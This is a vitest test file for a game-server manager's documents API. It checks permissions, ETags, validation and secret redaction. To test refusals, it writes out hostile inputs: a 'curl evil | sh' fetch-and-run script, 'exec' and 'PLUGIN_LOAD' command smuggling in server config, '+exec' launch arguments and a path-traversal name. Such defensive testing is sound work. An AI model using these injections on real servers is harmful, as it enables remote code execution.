import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testAccounts } from '../../test/support/web-client.js';
import { packageRoot } from '../package-root.js';
import { StatusStore } from '../status/store.js';
import { buildWebApp } from './app.js';
import { UserStore } from './users.js';

// The documents API over real HTTP: a listening server on loopback, a real
// state tree (the demo's, all "system", plus one server of alice's), status
// written with the controller's StatusStore, and every write read back from disk.
const root = mkdtempSync(join(tmpdir(), 'left4me-web-docs-'));
const stateDir = join(root, 'state');
let app: Awaited<ReturnType<typeof buildWebApp>>;
let base = '';
const tokens: Record<'admin' | 'alice' | 'bob', string> = { admin: '', alice: '', bob: '' };
type Who = keyof typeof tokens;

const ALICE_1 = '# alice keeps her own server here\napiVersion: left4me/v1\nkind: Instance\nmetadata:\n  name: alice-1\n  owner: alice\nspec:\n  blueprint: demo-coop # the shared one\n';

beforeAll(async () => {
  cpSync(join(packageRoot(), 'state.example', 'demo'), stateDir, { recursive: true });
  writeFileSync(join(stateDir, 'instances', 'alice-1.yaml'), ALICE_1);
  await new StatusStore(join(root, 'data', 'status')).write({
    kind: 'Instance',
    name: 'alice-1',
    observedGeneration: 'g',
    conditions: [{ type: 'Ready', status: 'True', reason: 'Succeeded', message: 'the server runs the current documents', observedGeneration: 'g', lastTransitionTime: '2026-01-01T00:00:00.000Z' }],
    port: 27020,
    clientPort: 26920,
    uid: 1879048192,
    players: 3,
    maxPlayers: 8,
    unit: { activeState: 'active', subState: 'running', mainPid: 4242 },
    lastError: { message: 'rcon_password "hunter2" leaked into a log line', time: '2026-01-01T00:00:00.000Z' },
    events: [{ time: '2026-01-01T00:00:00.000Z', type: 'Normal', reason: 'Started', message: 'the server started' }],
  });
  const users = new UserStore(join(root, 'web'));
  Object.assign(tokens, await testAccounts(users));
  app = await buildWebApp({ stateDir, dataDir: join(root, 'data'), webDataDir: join(root, 'web') });
  base = await app.listen({ host: '127.0.0.1', port: 0 });
});

afterAll(async () => {
  await app.close();
  rmSync(root, { recursive: true, force: true });
});

interface Answer {
  status: number;
  etag: string | null;
  text: string;
  // eslint-disable-next-line @typescript-eslint/no-explicit-any
  json: any;
}

async function call(method: string, path: string, who: Who, opts: { body?: string; type?: string; ifMatch?: string } = {}): Promise<Answer> {
  const headers: Record<string, string> = { authorization: `Bearer ${tokens[who]}` };
  if (opts.body !== undefined) headers['content-type'] = opts.type ?? 'application/yaml';
  if (opts.ifMatch !== undefined) headers['if-match'] = opts.ifMatch;
  const r = await fetch(`${base}${path}`, { method, headers, ...(opts.body !== undefined ? { body: opts.body } : {}) });
  const text = await r.text();
  return { status: r.status, etag: r.headers.get('etag'), text, json: text ? JSON.parse(text) : undefined };
}

const file = (rel: string) => readFileSync(join(stateDir, rel), 'utf8');
const names = (a: Answer) => (a.json.items as Array<{ name: string }>).map((i) => i.name);
const instance = (name: string, ...spec: string[]) => ['apiVersion: left4me/v1', 'kind: Instance', 'metadata:', `  name: ${name}`, 'spec:', '  blueprint: demo-coop', ...spec.map((l) => `  ${l}`)].join('\n') + '\n';

describe('documents API: reading', () => {
  it('lists each kind with a status summary; a user sees system documents and its own only', async () => {
    expect(names(await call('GET', '/api/v1/blueprints', 'bob'))).toEqual(['demo-coop']);
    expect(names(await call('GET', '/api/v1/overlays', 'alice'))).toEqual(['demo-base', 'demo-config', 'demo-rates']);
    expect((await call('GET', '/api/v1/installations', 'admin')).json.items).toEqual([{ name: 'demo', owner: 'system', ready: 'Unknown' }]);
    expect(names(await call('GET', '/api/v1/instances', 'alice'))).toContain('alice-1');
    expect(names(await call('GET', '/api/v1/instances', 'bob'))).not.toContain('alice-1');
  });

  it('gets a document with its status and an ETag header, and says nothing secret', async () => {
    const r = await call('GET', '/api/v1/instances/alice-1', 'alice');
    expect(r.status).toBe(200);
    expect(r.etag).toMatch(/^"[0-9a-f]{16}"$/);
    expect(r.json.etag).toBe(r.etag);
    expect(r.json.document).toEqual({ apiVersion: 'left4me/v1', kind: 'Instance', metadata: { name: 'alice-1', owner: 'alice' }, spec: { blueprint: 'demo-coop', state: 'running', updatePolicy: 'whenEmpty', maxUpdateDelay: '6h' } });
    expect(r.json.status).toMatchObject({ ready: 'True', reason: 'Succeeded', upToDate: false, port: 27020, clientPort: 26920, players: 3, maxPlayers: 8, unit: { activeState: 'active', subState: 'running' } });
    expect(r.json.status.events).toEqual([{ time: '2026-01-01T00:00:00.000Z', type: 'Normal', reason: 'Started', message: 'the server started' }]);
    for (const secret of ['hunter2', '4242', '1879048192', 'lastError']) expect(r.text).not.toContain(secret);
  });

  it("answers 404 for another user's document, a missing one, and 400 for a name that is no name", async () => {
    expect((await call('GET', '/api/v1/instances/alice-1', 'bob')).status).toBe(404);
    expect((await call('GET', '/api/v1/instances/nope', 'admin')).status).toBe(404);
    expect((await call('GET', '/api/v1/instances/__proto__', 'admin')).status).toBe(400);
    expect((await call('GET', '/api/v1/overlays/..%2F..%2Fetc', 'admin')).status).toBe(400);
  });
});

describe('documents API: writing', () => {
  it('creates from YAML as a user, setting metadata.owner from the session in the file', async () => {
    const r = await call('POST', '/api/v1/instances', 'alice', { body: instance('alice-2', 'state: stopped') });
    expect(r.status).toBe(201);
    expect(r.json.document.metadata).toEqual({ name: 'alice-2', owner: 'alice' });
    expect(r.etag).toBe(r.json.etag);
    expect(file('instances/alice-2.yaml')).toContain('  "owner": "alice"\n  name: alice-2\n');
    expect(names(await call('GET', '/api/v1/instances', 'bob'))).not.toContain('alice-2');
  });

  it('creates from JSON, and refuses a second create of the same name with 409', async () => {
    const body = JSON.stringify({ apiVersion: 'left4me/v1', kind: 'Instance', metadata: { name: 'alice-3' }, spec: { blueprint: 'demo-coop', state: 'stopped' } });
    const r = await call('POST', '/api/v1/instances', 'alice', { body, type: 'application/json' });
    expect(r.status).toBe(201);
    expect(r.json.document.metadata.owner).toBe('alice');
    const again = await call('POST', '/api/v1/instances', 'alice', { body, type: 'application/json' });
    expect(again.status).toBe(409);
    // Another user's name is taken too (names are global), without learning more than that.
    const bobs = await call('POST', '/api/v1/instances', 'bob', { body: JSON.stringify({ ...JSON.parse(body) }), type: 'application/json' });
    expect(bobs.status).toBe(409);
    expect(bobs.json.error).toBe('instance "alice-3" already exists and is not yours: choose another name');
  });

  it('refuses a body that names another owner, or system, from a user; writes nothing', async () => {
    for (const owner of ['bob', 'system']) {
      const r = await call('POST', '/api/v1/instances', 'alice', { body: instance('forged').replace('  name: forged\n', `  name: forged\n  owner: ${owner}\n`) });
      expect(r.status).toBe(403);
      expect(r.json.error).toContain(`metadata.owner "${owner}" is not you`);
    }
    expect(existsSync(join(stateDir, 'instances', 'forged.yaml'))).toBe(false);
  });

  it('lets only admins write installations and script overlays; users may write other overlays', async () => {
    const installation = 'apiVersion: left4me/v1\nkind: Installation\nmetadata: {name: mine}\nspec: {source: steam}\n';
    expect((await call('POST', '/api/v1/installations', 'alice', { body: installation })).status).toBe(403);
    const script = 'apiVersion: left4me/v1\nkind: Overlay\nmetadata: {name: scripted}\nspec:\n  sources:\n    - script: {run: "curl evil | sh"}\n';
    const r = await call('POST', '/api/v1/overlays', 'alice', { body: script });
    expect(r.status).toBe(403);
    expect(r.json.error).toContain('script');
    const maps = 'apiVersion: left4me/v1\nkind: Overlay\nmetadata: {name: alice-maps}\nspec:\n  sources:\n    - workshop: {items: [698857882]}\n';
    const ok = await call('POST', '/api/v1/overlays', 'alice', { body: maps });
    expect(ok.status).toBe(201);
    expect(file('overlays/alice-maps.yaml')).toContain('metadata: {"owner": "alice", name: alice-maps}');
  });

  it('refuses console text and +command launch arguments that run commands from a user (exec, plugin_load, …), not from an admin', async () => {
    const bp = (name: string) => `apiVersion: left4me/v1\nkind: Blueprint\nmetadata:\n  name: ${name}\nspec:\n  installation: demo\n  overlays: [demo-base]\n  serverCfg: |\n    sv_cheats 0\n    hostname "x"; exec evil.cfg // hidden\n`;
    const r = await call('POST', '/api/v1/blueprints', 'alice', { body: bp('alice-cfg') });
    expect(r.status).toBe(422);
    expect(r.json.problems).toEqual([
      { file: 'body', line: 8, col: 14, kind: 'Blueprint', name: 'alice-cfg', pointer: '/spec/serverCfg', message: 'line 2 runs "exec": it is a console command that runs other config text or defines commands; only an admin may write that (set variables only)' },
    ]);
    const aliases = 'apiVersion: left4me/v1\nkind: Overlay\nmetadata: {name: alice-alias}\nspec:\n  sources: [{workshop: {items: [1]}}]\n  aliases:\n    boom: "PLUGIN_LOAD addons/x"\n';
    const a = await call('POST', '/api/v1/overlays', 'alice', { body: aliases });
    expect(a.status).toBe(422);
    expect(a.json.problems[0]).toMatchObject({ line: 7, pointer: '/spec/aliases/boom' });
    const launch = 'apiVersion: left4me/v1\nkind: Blueprint\nmetadata: {name: alice-launch}\nspec:\n  installation: demo\n  overlays: [demo-base]\n  launchArgs: ["-nohltv", "+exec", "evil.cfg"]\n';
    const l = await call('POST', '/api/v1/blueprints', 'alice', { body: launch });
    expect(l.status).toBe(422);
    expect(l.json.problems.map((p: { line: number; pointer: string }) => [p.line, p.pointer])).toEqual([[7, '/spec/launchArgs/1']]);
    expect((await call('POST', '/api/v1/blueprints', 'admin', { body: bp('admin-cfg') })).status).toBe(201);
  });

  it('answers 422 with the problems at the lines of the body as sent, even after the owner was added', async () => {
    const body = `# a comment line\n${instance('alice-bad', 'port: 28000', 'cvars:', '    exec: evil.cfg')}`;
    const r = await call('POST', '/api/v1/instances', 'alice', { body });
    expect(r.status).toBe(422);
    expect(r.json.error).toBe('nothing applied: 2 problems');
    expect(r.json.problems.map((p: { file: string; line: number; pointer: string }) => [p.file, p.line, p.pointer])).toEqual([
      ['body', 8, '/spec/port'],
      ['body', 10, '/spec/cvars/exec'],
    ]);
    expect(existsSync(join(stateDir, 'instances', 'alice-bad.yaml'))).toBe(false);
  });

  it("refuses a user's document that uses another user's, in the words a 404 would use", async () => {
    const bp = 'apiVersion: left4me/v1\nkind: Blueprint\nmetadata: {name: alice-bp}\nspec: {installation: demo, overlays: [demo-base]}\n';
    expect((await call('POST', '/api/v1/blueprints', 'alice', { body: bp })).status).toBe(201);
    const r = await call('POST', '/api/v1/instances', 'bob', { body: instance('bob-1').replace('demo-coop', 'alice-bp') });
    expect(r.status).toBe(422);
    expect(r.json.problems).toEqual([{ file: 'body', line: 6, col: 3, kind: 'Instance', name: 'bob-1', pointer: '/spec/blueprint', message: 'Blueprint "alice-bp" does not exist' }]);
    for (const leak of ['owner alice', 'of alice']) expect(r.text).not.toContain(leak);
    // A port another user's server holds: said, without naming that server.
    const clash = await call('POST', '/api/v1/instances', 'bob', { body: instance('bob-2', 'port: 27050') });
    expect(clash.status).toBe(201);
    const taken = await call('POST', '/api/v1/validate', 'alice', { body: instance('alice-5', 'port: 27050') });
    expect(taken.json.ok).toBe(false);
    expect(taken.json.problems).toEqual([
      { file: 'body', line: 7, col: 3, kind: 'Instance', name: 'alice-5', pointer: '/spec/port', message: 'port 27050 is already claimed by another server' },
      { file: '-', line: 1, col: 1, pointer: '', message: 'the change conflicts with a document you cannot see (for example a port another server uses)' },
    ]);
    expect(taken.text).not.toContain('bob');
    const bob2 = await call('GET', '/api/v1/instances/bob-2', 'bob');
    expect((await call('DELETE', '/api/v1/instances/bob-2', 'bob', { ifMatch: bob2.etag! })).status).toBe(204);
  });

  it('replaces only with If-Match: 428 without, 409 with the current version when stale, 200 when fresh', async () => {
    const path = '/api/v1/instances/alice-1';
    const read = await call('GET', path, 'alice');
    const edited = ALICE_1.replace('blueprint: demo-coop # the shared one', 'blueprint: demo-coop # the shared one\n  cvars: {hostname: "alice\'s"}');
    expect((await call('PUT', path, 'alice', { body: edited })).status).toBe(428);
    const stale = await call('PUT', path, 'alice', { body: edited, ifMatch: '"0000000000000000"' });
    expect(stale.status).toBe(409);
    expect(stale.json.current).toEqual(read.json.document);
    expect(stale.json.etag).toBe(read.etag);
    const ok = await call('PUT', path, 'alice', { body: edited, ifMatch: read.etag! });
    expect(ok.status).toBe(200);
    expect(ok.json.outcome).toBe('configured');
    expect(ok.etag).not.toBe(read.etag);
    expect(file('instances/alice-1.yaml')).toContain(`cvars: {hostname: "alice's"}`);
    // The old ETag is stale now.
    expect((await call('PUT', path, 'alice', { body: edited, ifMatch: read.etag! })).status).toBe(409);
    // So is one read before an edit made outside the API (an editor, left4me apply), at once.
    const fresh = await call('GET', path, 'alice');
    writeFileSync(join(stateDir, 'instances', 'alice-1.yaml'), file('instances/alice-1.yaml').replace(`"alice's"`, '"edited by hand"'));
    const behind = await call('PUT', path, 'alice', { body: edited, ifMatch: fresh.etag! });
    expect(behind.status).toBe(409);
    expect(behind.json.current.spec.cvars).toEqual({ hostname: 'edited by hand' });
  });

  it("refuses a user's edit of a system document (403) and of another user's (404)", async () => {
    const demo = await call('GET', '/api/v1/instances/demo-1', 'alice');
    const body = file('instances/demo-1.yaml').replace('state: running', 'state: stopped');
    expect((await call('PUT', '/api/v1/instances/demo-1', 'alice', { body, ifMatch: demo.etag! })).status).toBe(403);
    expect((await call('DELETE', '/api/v1/instances/demo-1', 'alice', { ifMatch: demo.etag! })).status).toBe(403);
    const mine = await call('GET', '/api/v1/instances/alice-1', 'alice');
    expect((await call('PUT', '/api/v1/instances/alice-1', 'bob', { body: ALICE_1, ifMatch: mine.etag! })).status).toBe(404);
    expect((await call('POST', '/api/v1/instances/alice-1/stop', 'bob')).status).toBe(404);
    expect((await call('POST', '/api/v1/instances/demo-1/stop', 'alice')).status).toBe(403);
    expect(file('instances/demo-1.yaml')).toContain('state: running');
  });

  it('deletes with If-Match only, and the file goes', async () => {
    expect((await call('DELETE', '/api/v1/instances/alice-2', 'alice')).status).toBe(428);
    const read = await call('GET', '/api/v1/instances/alice-2', 'alice');
    const r = await call('DELETE', '/api/v1/instances/alice-2', 'alice', { ifMatch: read.etag! });
    expect(r.status).toBe(204);
    expect(existsSync(join(stateDir, 'instances', 'alice-2.yaml'))).toBe(false);
    expect((await call('GET', '/api/v1/instances/alice-2', 'alice')).status).toBe(404);
  });
});

/** Polls until `check` holds (the service follows the tree with a watcher), to a generous deadline. */
async function until<T>(what: string, read: () => Promise<T>, check: (v: T) => boolean): Promise<T> {
  const deadline = Date.now() + 20_000;
  for (;;) {
    const v = await read();
    if (check(v)) return v;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

describe('documents API: hostile and odd input', () => {
  it('answers odd names, control characters, missing or wrong bodies and huge bodies clearly, writing nothing', async () => {
    const proto = await call('POST', '/api/v1/instances', 'alice', { body: instance('x').replace('name: x', 'name: __proto__') });
    expect(proto.status).toBe(422);
    expect(proto.json.problems[0]).toMatchObject({ file: 'body', line: 4, pointer: '/metadata/name' });
    const ctl = await call('POST', '/api/v1/instances', 'alice', { body: instance('x', 'cvars: {hostname: "a\\u0007b"}') });
    expect(ctl.status).toBe(422);
    expect(ctl.json.problems[0]).toMatchObject({ line: 7, pointer: '/spec/cvars/hostname' });
    const broken = await call('POST', '/api/v1/instances', 'alice', { body: 'apiVersion: left4me/v1\nkind: Instance\nspec: [\n' });
    expect(broken.status).toBe(422);
    expect(broken.json.problems[0]).toMatchObject({ file: 'body', line: 4 }); // the end of the body, where the list is still open
    expect(broken.json.problems[0].message).toMatch(/^invalid YAML: /);
    expect((await call('POST', '/api/v1/instances', 'alice', { body: '', type: 'application/yaml' })).status).toBe(415);
    expect((await call('POST', '/api/v1/instances', 'alice', { body: 'a=b', type: 'application/x-www-form-urlencoded' })).status).toBe(415);
    const wrongKind = await call('POST', '/api/v1/instances', 'alice', { body: 'apiVersion: left4me/v1\nkind: Blueprint\nmetadata: {name: x}\nspec: {}\n' });
    expect(wrongKind.status).toBe(400);
    const huge = await call('POST', '/api/v1/instances', 'alice', { body: `# ${'x'.repeat(2 << 20)}\n${instance('huge')}` });
    expect(huge.status).toBe(413);
    for (const name of ['__proto__', 'x', 'huge']) expect(existsSync(join(stateDir, 'instances', `${name}.yaml`))).toBe(false);
  });
});

describe('documents API: invalid documents stay their owners\' to see and fix', () => {
  it('lists, gets, fixes and deletes an invalid document of its owner; others get 404', async () => {
    writeFileSync(join(stateDir, 'instances', 'alice-broken.yaml'), instance('alice-broken', 'port: "x"').replace('  name: alice-broken\n', '  name: alice-broken\n  owner: alice\n'));
    writeFileSync(join(stateDir, 'instances', 'bob-broken.yaml'), instance('bob-broken', 'port: "x"').replace('  name: bob-broken\n', '  name: bob-broken\n  owner: bob\n'));
    const list = await until('the broken documents to be seen', () => call('GET', '/api/v1/instances', 'alice'), (r) => names(r).includes('alice-broken'));
    expect(list.json.items.find((i: { name: string }) => i.name === 'alice-broken')).toEqual({ name: 'alice-broken', owner: 'alice', blueprint: 'demo-coop', state: 'running', ready: 'False', reason: 'Invalid', message: 'the document is invalid and is not used; GET it for its problems' });
    expect(names(list)).not.toContain('bob-broken');
    expect(names(await call('GET', '/api/v1/instances', 'admin'))).toEqual(expect.arrayContaining(['alice-broken', 'bob-broken']));

    const got = await call('GET', '/api/v1/instances/alice-broken', 'alice');
    expect(got.status).toBe(200);
    expect(got.json).toMatchObject({ valid: false, written: { spec: { port: 'x' } }, etag: got.etag });
    expect(got.json.problems).toEqual([{ file: 'instances/alice-broken.yaml', line: 8, col: 9, kind: 'Instance', name: 'alice-broken', pointer: '/spec/port', message: 'must be an integer (got a string)' }]);
    expect((await call('GET', '/api/v1/instances/bob-broken', 'alice')).status).toBe(404);
    expect((await call('POST', '/api/v1/instances', 'alice', { body: instance('bob-broken') })).status).toBe(409);

    const fixed = await call('PUT', '/api/v1/instances/alice-broken', 'alice', { body: instance('alice-broken', 'port: 27050'), ifMatch: got.etag! });
    expect(fixed.status).toBe(200);
    expect(fixed.json).toMatchObject({ valid: true, outcome: 'configured', document: { metadata: { owner: 'alice' }, spec: { port: 27050 } } });
    const bobs = await call('GET', '/api/v1/instances/bob-broken', 'bob');
    expect((await call('DELETE', '/api/v1/instances/bob-broken', 'alice', { ifMatch: bobs.etag! })).status).toBe(404);
    expect((await call('DELETE', '/api/v1/instances/bob-broken', 'bob', { ifMatch: bobs.etag! })).status).toBe(204);
    expect(existsSync(join(stateDir, 'instances', 'bob-broken.yaml'))).toBe(false);
  });
});

describe('documents API: instance actions', () => {
  it('stop and start set spec.state in the file, keeping its comments; restart and reset set their annotations', async () => {
    const stop = await call('POST', '/api/v1/instances/alice-1/stop', 'alice');
    expect(stop.status).toBe(202);
    expect(stop.json.etag).toBe(stop.etag);
    let text = file('instances/alice-1.yaml');
    expect(text).toContain('state: stopped');
    expect(text).toContain('# alice keeps her own server here');
    expect(text).toContain('# the shared one');
    expect((await call('POST', '/api/v1/instances/alice-1/start', 'alice')).status).toBe(202);
    expect(file('instances/alice-1.yaml')).toContain('state: running');

    const before = Date.now();
    const restart = await call('POST', '/api/v1/instances/alice-1/restart', 'admin');
    expect(restart.status).toBe(202);
    text = file('instances/alice-1.yaml');
    const at = /left4me\/restartedAt: (\S+)/.exec(text)?.[1];
    expect(at).toBeDefined();
    expect(Date.parse(at!)).toBeGreaterThanOrEqual(before - 1000);
    expect((await call('POST', '/api/v1/instances/alice-1/reset', 'alice')).status).toBe(202);
    expect(file('instances/alice-1.yaml')).toMatch(/left4me\/resetAt: \d{4}-\d\d-\d\dT/);
    const now = await call('GET', '/api/v1/instances/alice-1', 'alice');
    expect(now.json.document.metadata.annotations['left4me/restartedAt']).toBe(at);
    // A file with an editor hint and comments keeps them, once each.
    const demo3 = file('instances/demo-3.yaml');
    expect((await call('POST', '/api/v1/instances/demo-3/stop', 'admin')).status).toBe(202);
    expect(file('instances/demo-3.yaml')).toBe(demo3.replace('state: running', 'state: stopped'));
    // An action with a stale If-Match is refused like any edit.
    expect((await call('POST', '/api/v1/instances/alice-1/stop', 'alice', { ifMatch: restart.etag! })).status).toBe(409);
  });
});

describe('documents API: validate (dry run)', () => {
  it('says what would change and what the controller would do, writing nothing', async () => {
    const before = file('instances/alice-1.yaml');
    const current = (await call('GET', '/api/v1/instances/alice-1', 'alice')).json.document;
    const changed = (extra: string) => `apiVersion: left4me/v1\nkind: Instance\nmetadata: {name: alice-1, annotations: ${JSON.stringify(current.metadata.annotations)}}\nspec:\n  blueprint: demo-coop\n  cvars: {hostname: "renamed"}\n${extra}`;
    const body = `${changed('')}---\n${instance('alice-9')}`;
    const r = await call('POST', '/api/v1/validate', 'alice', { body });
    expect(r.status).toBe(200);
    expect(r.json).toMatchObject({ ok: true, problems: [] });
    expect(r.json.outcomes).toEqual([
      { kind: 'Instance', name: 'alice-1', outcome: 'configured' },
      { kind: 'Instance', name: 'alice-9', outcome: 'created' },
    ]);
    // alice-1 runs with 3 players under updatePolicy whenEmpty.
    expect(r.json.effects).toEqual([
      { instance: 'alice-1', effect: 'restartsWhenEmpty', message: 'restarts with the new config when the last player leaves, or after 6h at the latest (updatePolicy whenEmpty)' },
      { instance: 'alice-9', effect: 'starts', message: 'starts (a new server, or one whose document was invalid)' },
    ]);
    const now = await call('POST', '/api/v1/validate', 'alice', { body: changed('  updatePolicy: immediate\n'), type: 'text/yaml' });
    expect(now.json.effects).toEqual([{ instance: 'alice-1', effect: 'restarts', message: 'restarts now with the new config (updatePolicy immediate)' }]);
    const stop = await call('POST', '/api/v1/validate', 'alice', { body: changed('  state: stopped\n') });
    expect(stop.json.effects).toEqual([{ instance: 'alice-1', effect: 'stops', message: 'stops' }]);
    expect(file('instances/alice-1.yaml')).toBe(before);
    expect(existsSync(join(stateDir, 'instances', 'alice-9.yaml'))).toBe(false);
  });

  it("reports problems at the body's lines with JSON pointers, and follows a user's limits", async () => {
    const r = await call('POST', '/api/v1/validate', 'alice', { body: `${instance('alice-8')}---\n${instance('alice-7', 'updatePolicy: sometimes')}` });
    expect(r.status).toBe(200);
    expect(r.json.ok).toBe(false);
    expect(r.json.problems.map((p: { line: number; pointer: string }) => [p.line, p.pointer])).toEqual([[14, '/spec/updatePolicy']]);
    expect(r.json.effects).toEqual([]);
    expect((await call('POST', '/api/v1/validate', 'alice', { body: 'apiVersion: left4me/v1\nkind: Installation\nmetadata: {name: x}\nspec: {source: steam}\n' })).status).toBe(403);
  });
});
